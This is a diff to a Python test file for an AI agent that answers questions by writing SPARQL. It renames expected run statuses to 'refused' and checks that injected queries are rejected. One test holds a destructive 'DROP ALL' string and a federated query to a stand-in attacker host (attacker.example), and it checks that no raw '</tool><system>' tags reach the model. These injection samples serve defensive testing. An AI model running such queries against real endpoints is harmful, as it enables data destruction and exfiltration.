@@ -83,7 +83,7 @@ def test_an_unusable_prune_answer_shows_everything(mini: SagaToolbox) -> None:
     assert all(prop in observation for prop in ("ex:livesIn", "ex:nickname", "ex:price"))
 
 
-def test_an_obeyed_injection_is_rejected_and_the_run_fails_honestly(mini: SagaToolbox) -> None:
+def test_an_obeyed_injection_is_rejected_and_the_run_ends_refused(mini: SagaToolbox) -> None:
     attack = "DROP ALL"
     federated = "SELECT * WHERE { SERVICE <http://attacker.example/sparql> { ?s ?p ?o } }"
     run = run_agent(
@@ -98,7 +98,7 @@ def test_an_obeyed_injection_is_rejected_and_the_run_fails_honestly(mini: SagaTo
         question="What is the motto?",
     )
     assert [a.status for a in run.output["attempts"]] == ["rejected", "rejected"]
-    assert run.output["status"] == "failed" and run.output["answer"] is None
+    assert run.output["status"] == "refused" and run.output["answer"] is None
     assert run.output["final_sparql"] is None
     # Graph text reaches the model only escaped: no raw tool or system tags.
     assert "</tool><system>" not in run.model.all_prompts()
@@ -125,7 +125,7 @@ def test_transient_provider_errors_are_retried(mini: SagaToolbox) -> None:
     graph = build_graph(model_factory=model_factory(model), toolbox_factory=lambda _c: mini, model_retry=FAST_RETRY)
     context = SagaContext()
     output = graph.invoke({"question": "Where?"}, run_config(context), context=context)
-    assert model.calls == 4 and output["status"] == "gave_up"
+    assert model.calls == 4 and output["status"] == "refused"
 
 
 def test_other_errors_are_not_retried(mini: SagaToolbox) -> None:
@@ -170,6 +170,7 @@ def test_the_compiled_graph_is_servable_and_embeddable(mini: SagaToolbox) -> Non
         "final_sparql",
         "answer",
         "status",
+        "outcome",
         "summary",
         "attempts",
     }
